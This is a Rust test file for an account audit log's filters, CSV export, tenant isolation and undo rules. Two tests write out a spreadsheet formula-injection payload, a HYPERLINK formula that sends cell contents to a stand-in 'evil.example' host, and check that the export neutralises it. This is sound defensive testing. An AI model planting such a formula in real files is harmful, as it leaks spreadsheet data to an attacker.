//! The audit log as an account's admins read it: filters and CSV export.

mod common;
use common::*;
use domain::audit::{
    part, to_csv, write_csv_record, ActorFilter, AuditFilter, AuditIndex, Category,
};
use domain::*;
use proptest::prelude::*;

fn deactivate(s: &mut State, actor: &Actor, user: UserId) {
    accepted(
        s,
        actor,
        Command::Deactivate {
            account: FJORD,
            user,
        },
    );
}

/// Henrik deactivates Erik, Astrid gets a new set by Henrik, then time passes.
fn history() -> State {
    let mut s = world();
    let henrik = as_user(&s, FJORD, HENRIK);
    let erik = uid(&s, FJORD, ERIK);
    deactivate(&mut s, &henrik, erik);
    let pia = uid(&s, FJORD, PIA);
    deactivate(&mut s, &henrik, pia);
    s
}

#[test]
fn an_account_log_holds_its_own_entries_only() {
    let s = history();
    let fjord = AuditIndex::new(&s, FJORD, Lang::En);
    assert_eq!(fjord.len(), 2);
    // Fjord's changes do not show in another client's log.
    let before = AuditIndex::new(&world(), LINDQVIST, Lang::En).len();
    assert_eq!(AuditIndex::new(&s, LINDQVIST, Lang::En).len(), before);
}

#[test]
fn filters_narrow_by_affected_user_actor_category_search_and_date() {
    let s = history();
    let index = AuditIndex::new(&s, FJORD, Lang::En);
    let all = index.matching(&AuditFilter::default());
    assert_eq!(all.len(), 2);
    assert!(all[0] > all[1], "newest first");

    let erik = AuditFilter {
        affected: "Erik".into(),
        ..AuditFilter::default()
    };
    let hits = index.matching(&erik);
    assert_eq!(hits.len(), 1);
    assert!(s.audit[hits[0]].summary.to_string().contains("erik.lund"));

    let by_henrik = AuditFilter {
        actor: ActorFilter::Person(HENRIK.into()),
        ..AuditFilter::default()
    };
    assert_eq!(index.matching(&by_henrik).len(), 2);
    let automatic = AuditFilter {
        actor: ActorFilter::Automatic,
        ..AuditFilter::default()
    };
    assert!(index.matching(&automatic).is_empty());

    let links = AuditFilter {
        category: Some(Category::AccessLinks),
        ..AuditFilter::default()
    };
    assert!(index.matching(&links).is_empty());
    let users = AuditFilter {
        category: Some(Category::Users),
        ..AuditFilter::default()
    };
    assert_eq!(index.matching(&users).len(), 2);

    let search = AuditFilter {
        search: "PIA.STRAND".into(),
        ..AuditFilter::default()
    };
    assert_eq!(index.matching(&search).len(), 1);

    let day = now();
    let that_day = AuditFilter {
        from: Some(day),
        to: Some(day),
        ..AuditFilter::default()
    };
    assert_eq!(index.matching(&that_day).len(), 2, "`to` includes its day");
    let later = AuditFilter {
        from: Some(day.plus_days(1)),
        ..AuditFilter::default()
    };
    assert!(index.matching(&later).is_empty());
}

#[test]
fn the_csv_export_has_a_header_and_a_row_per_entry() {
    let s = history();
    let index = AuditIndex::new(&s, FJORD, Lang::En);
    let csv = to_csv(
        &s,
        FJORD,
        &index.matching(&AuditFilter::default()),
        Lang::En,
    );
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "When (UTC)",
            "Who",
            "Acting in",
            "Category",
            "What",
            "Affected users"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    assert!(rows[0][1].contains(HENRIK));
    assert_eq!(&rows[0][2], "Fjord Outdoor AS");
    assert_eq!(&rows[0][5], PIA);
}

proptest! {
    /// Whatever a name or a summary holds (commas, quotes, line breaks,
    /// spaces at the ends), a CSV reader gets the same fields back; one a
    /// spreadsheet would run as a formula comes back behind a `'` (R-SEC-1).
    #[test]
    fn a_csv_record_reads_back_as_written(
        fields in prop::collection::vec("[a-zA-Z ,;\"\n\r\té<=]{0,12}", 2..7),
        rows in 1usize..4,
    ) {
        let mut csv = String::new();
        for _ in 0..rows {
            write_csv_record(&mut csv, &fields);
        }
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(csv.as_bytes());
        let read: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        let expected: Vec<String> = fields
            .iter()
            .map(|f| {
                if f.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                    format!("'{f}")
                } else {
                    f.clone()
                }
            })
            .collect();
        prop_assert_eq!(read, vec![expected; rows]);
    }
}

#[test]
fn r_sec_1_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote() {
    // R-SEC-1: each of OWASP's formula starts, and the harmless look-alikes.
    let fields = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "a=b",
        "2026-11-23",
    ]
    .map(String::from);
    let mut csv = String::new();
    write_csv_record(&mut csv, &fields);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(
        row.iter().collect::<Vec<_>>(),
        [
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "'+1",
            "'-2+3",
            "'@SUM(A1)",
            "'\tx",
            "'\rx",
            "a=b",
            "2026-11-23",
        ]
    );
}

#[test]
fn r_sec_1_a_user_named_as_a_formula_is_text_in_the_audit_export() {
    // R-SEC-1: the attack of the issue: a client user whose name is a
    // formula acts, and the client's admin exports the log.
    let mut s = world();
    let henrik = as_user(&s, FJORD, HENRIK);
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    s.account_mut(FJORD)
        .unwrap()
        .user_mut(henrik.user)
        .unwrap()
        .name = name.into();
    let pia = uid(&s, FJORD, PIA);
    deactivate(&mut s, &henrik, pia);
    let index = AuditIndex::new(&s, FJORD, Lang::En);
    let csv = to_csv(
        &s,
        FJORD,
        &index.matching(&AuditFilter::default()),
        Lang::En,
    );
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert!(row[1].starts_with("'="), "who: {}", &row[1]);
    assert!(!csv.contains(",=HYPERLINK"), "{csv}");
}

/// BrightPath opted in to dormant deactivation; Sofie is dormant in Fjord
/// and in Lindqvist, so one automatic entry deactivates her in both.
fn one_sweep_over_two_clients() -> State {
    let mut s = world();
    let lars = as_user(&s, BRIGHTPATH, LARS);
    accepted(
        &mut s,
        &lars,
        Command::SetPartnerSettings {
            partner: BRIGHTPATH,
            link_valid_days: 30,
            deactivate_dormant: true,
        },
    );
    let later = now().plus_days(DORMANT_DAYS + 30);
    for step in tick_steps(&s, later) {
        commit(&mut s, None, &step, later);
    }
    assert_eq!(user(&s, FJORD, SOFIE).status, UserStatus::Deactivated);
    assert_eq!(user(&s, LINDQVIST, SOFIE).status, UserStatus::Deactivated);
    s
}

#[test]
fn r_aud_1_a_client_sees_only_its_part_of_an_entry_that_touched_several() {
    // R-AUD-1
    let s = one_sweep_over_two_clients();
    let sweep = s
        .audit
        .iter()
        .position(|e| {
            let accounts: std::collections::BTreeSet<_> =
                e.events.iter().filter_map(|ev| ev.account()).collect();
            accounts.contains(&FJORD) && accounts.contains(&LINDQVIST)
        })
        .expect("one entry touched both clients");
    let entry = &s.audit[sweep];
    // The part: Fjord's events only, and none of Lindqvist's.
    assert!(part(entry, FJORD).all(|e| e.account() == Some(FJORD)));
    assert!(part(entry, FJORD).count() > 0);
    assert!(part(entry, LINDQVIST).all(|e| e.account() == Some(LINDQVIST)));

    // Search and the affected-user filter: Lindqvist's own users are not
    // found in Fjord's log through the shared entry, nor Fjord's in theirs.
    let fjord = AuditIndex::new(&s, FJORD, Lang::En);
    let lindqvist = AuditIndex::new(&s, LINDQVIST, Lang::En);
    assert!(fjord.matching(&AuditFilter::default()).contains(&sweep));
    let erik_in_lindqvist = lindqvist.matching(&AuditFilter {
        affected: "erik.lund".into(),
        ..AuditFilter::default()
    });
    assert!(
        !erik_in_lindqvist.contains(&sweep),
        "Fjord's Erik is in Lindqvist's log"
    );
    let erik_in_fjord = fjord.matching(&AuditFilter {
        search: "erik.lund".into(),
        ..AuditFilter::default()
    });
    assert!(erik_in_fjord.contains(&sweep), "Fjord finds its own user");
    let ingrid_in_fjord = fjord.matching(&AuditFilter {
        search: "ingrid.berg".into(),
        ..AuditFilter::default()
    });
    assert!(
        !ingrid_in_fjord.contains(&sweep),
        "Lindqvist's Ingrid is in Fjord's log"
    );

    // The CSV's affected column: Fjord's users only.
    let csv = to_csv(&s, FJORD, &[sweep], Lang::En);
    assert!(csv.contains(ERIK), "{csv}");
    assert!(!csv.contains(INGRID), "{csv}");
}

#[test]
fn a_field_with_a_comma_a_quote_or_outer_spaces_is_quoted() {
    let mut csv = String::new();
    let fields = ["a,b", "say \"hi\"", " x", "plain", "two\nlines"].map(String::from);
    write_csv_record(&mut csv, &fields);
    assert_eq!(
        csv,
        "\"a,b\",\"say \"\"hi\"\"\",\" x\",plain,\"two\nlines\"\n"
    );
}

#[test]
fn acting_marks_the_actor_active() {
    let mut s = world();
    let henrik = as_user(&s, FJORD, HENRIK);
    let later = now().plus_days(3);
    let erik = uid(&s, FJORD, ERIK);
    execute(
        &mut s,
        &henrik,
        &Command::Deactivate {
            account: FJORD,
            user: erik,
        },
        later,
    )
    .unwrap();
    assert_eq!(user(&s, FJORD, HENRIK).last_active, later);
}

/// Acting again at the same time leaves the actor's run of users shared:
/// marking them active would write the value they already have, and a
/// copied run is what the next save compares and writes again.
#[test]
fn acting_again_at_the_same_time_leaves_the_actors_users_uncopied() {
    let mut s = world();
    let henrik = as_user(&s, FJORD, HENRIK);
    // Enough users that the newest is in another run than Henrik's.
    accepted(&mut s, &henrik, create_view_only(fjord_people("r", 80)));
    let newest = s.account(FJORD).unwrap().users.last().unwrap().id;
    let run = |s: &State, id: UserId| {
        let runs = s.account(FJORD).unwrap().users.runs();
        runs.iter()
            .find(|r| r.iter().any(|u| u.id == id))
            .cloned()
            .unwrap()
    };
    let henrik_id = uid(&s, FJORD, HENRIK);
    assert!(!std::sync::Arc::ptr_eq(
        &run(&s, henrik_id),
        &run(&s, newest)
    ));
    let saved = s.clone();
    let deactivate = Command::Deactivate {
        account: FJORD,
        user: newest,
    };
    execute(&mut s, &henrik, &deactivate, now()).unwrap();
    assert!(std::sync::Arc::ptr_eq(
        &run(&s, henrik_id),
        &run(&saved, henrik_id)
    ));
    assert!(!std::sync::Arc::ptr_eq(
        &run(&s, newest),
        &run(&saved, newest)
    ));
    assert_eq!(user(&s, FJORD, HENRIK).last_active, now());
}

#[test]
fn undo_is_a_command_only_the_person_who_made_the_change_may_give() {
    let mut s = world();
    let henrik = as_user(&s, FJORD, HENRIK);
    let sofie = as_user(&s, FJORD, SOFIE);
    let erik = uid(&s, FJORD, ERIK);
    deactivate(&mut s, &henrik, erik);
    let seq = s.audit.last().unwrap().seq;
    // R-ACC-2: someone else, even a Partner admin of the account, may not.
    let r = refused(&mut s, &sofie, Command::Undo { seq }, "R-ACC-2");
    assert!(r
        .to_string()
        .contains("Only the person who made this change"));
    let d = accepted(&mut s, &henrik, Command::Undo { seq });
    assert!(d.summary.to_string().starts_with("Undid: "));
    assert!(user(&s, FJORD, ERIK).is_active());
    let undo_entry = s.audit.last().unwrap();
    assert_eq!(undo_entry.actor.as_ref().map(|a| a.user), Some(henrik.user));
    // Once undone, the original entry is no longer the newest: refused.
    refused(&mut s, &henrik, Command::Undo { seq }, "R-ACC-2");
}

#[test]
fn undo_restores_a_deactivated_user_and_is_recorded() {
    let mut s = world();
    let henrik = as_user(&s, FJORD, HENRIK);
    let erik = uid(&s, FJORD, ERIK);
    let before = user(&s, FJORD, ERIK).clone();
    deactivate(&mut s, &henrik, erik);
    let seq = s.audit.last().unwrap().seq;
    let undo = undo_decision(&s, seq).expect("the newest change can be undone");
    commit(&mut s, None, &undo, now());
    let after = user(&s, FJORD, ERIK);
    assert_eq!(after.status, before.status);
    assert_eq!(after.permissions, before.permissions);
    assert!(s
        .audit
        .last()
        .unwrap()
        .summary
        .to_string()
        .starts_with("Undid: "));
    // The undo is a change too: undoing it deactivates Erik again.
    let redo = undo_decision(&s, s.audit.last().unwrap().seq).unwrap();
    commit(&mut s, None, &redo, now());
    assert_eq!(user(&s, FJORD, ERIK).status, UserStatus::Deactivated);
}

#[test]
fn undo_is_not_offered_once_a_later_change_may_depend_on_it() {
    let mut s = world();
    let henrik = as_user(&s, FJORD, HENRIK);
    let erik = uid(&s, FJORD, ERIK);
    let pia = uid(&s, FJORD, PIA);
    deactivate(&mut s, &henrik, erik);
    let first = s.audit.last().unwrap().seq;
    deactivate(&mut s, &henrik, pia);
    assert!(undo_decision(&s, first).is_none());
    assert!(undo_decision(&s, first + 1).is_some());
}

#[test]
fn a_used_access_link_cannot_be_undone() {
    let mut s = world();
    let kari = as_user(&s, NORDLYS, KARI);
    let kari_id = kari.user;
    accepted(
        &mut s,
        &kari,
        Command::IssueAccessLink {
            partner: NORDLYS,
            employee: kari_id,
            token: token(1),
        },
    );
    assert!(undo_decision(&s, s.audit.last().unwrap().seq).is_none());
}

/// Undoes the newest entry as `actor` would from the notice after a change.
fn undo_newest(s: &mut State) {
    let undo =
        undo_decision(s, s.audit.last().unwrap().seq).expect("the newest change can be undone");
    commit(s, None, &undo, now());
}

#[test]
fn undo_restores_the_partner_email_domains() {
    let mut s = world();
    let sofie = as_user(&s, BRIGHTPATH, SOFIE);
    let before = s.account(BRIGHTPATH).unwrap().partner_domains.clone();
    let mut domains = before.clone();
    domains.push(Domain::parse("brightpath.dk").unwrap());
    accepted(
        &mut s,
        &sofie,
        Command::SetPartnerDomains {
            partner: BRIGHTPATH,
            domains: domains.clone(),
        },
    );
    assert_eq!(s.account(BRIGHTPATH).unwrap().partner_domains, domains);
    undo_newest(&mut s);
    assert_eq!(s.account(BRIGHTPATH).unwrap().partner_domains, before);
    // Undoing the undo adds the domain again.
    undo_newest(&mut s);
    assert_eq!(s.account(BRIGHTPATH).unwrap().partner_domains, domains);
}

/// Sofie, Super Admin of BrightPath, saves its partner settings.
fn set_settings(s: &mut State, link_valid_days: u32, deactivate_dormant: bool) {
    let sofie = as_user(s, BRIGHTPATH, SOFIE);
    accepted(
        s,
        &sofie,
        Command::SetPartnerSettings {
            partner: BRIGHTPATH,
            link_valid_days,
            deactivate_dormant,
        },
    );
}

#[test]
fn undo_restores_the_partner_settings_unless_they_changed_since() {
    let mut s = world();
    let settings = |s: &State| {
        let p = s.account(BRIGHTPATH).unwrap();
        (p.link_valid_days, p.deactivate_dormant)
    };
    let before = settings(&s);
    set_settings(&mut s, 7, before.1);
    assert_eq!(settings(&s), (7, before.1));
    undo_newest(&mut s);
    assert_eq!(settings(&s), before);
    // Changed by hand since the entry was written (as an older tab's
    // document could be): no undo.
    set_settings(&mut s, 9, before.1);
    s.account_mut(BRIGHTPATH).unwrap().link_valid_days = 10;
    assert!(undo_decision(&s, s.audit.last().unwrap().seq).is_none());
}

#[test]
fn settings_saved_before_their_previous_values_were_recorded_cannot_be_undone() {
    let mut s = world();
    set_settings(&mut s, 7, true);
    // Such an entry, as an older release stored it.
    let last = s.audit.last_mut().unwrap();
    let mut json = serde_json::to_value(&last.events).unwrap();
    json[0]["PartnerSettingsSet"]
        .as_object_mut()
        .unwrap()
        .remove("before")
        .expect("the previous values are stored");
    last.events = serde_json::from_value(json).unwrap();
    assert!(undo_decision(&s, s.audit.last().unwrap().seq).is_none());
}
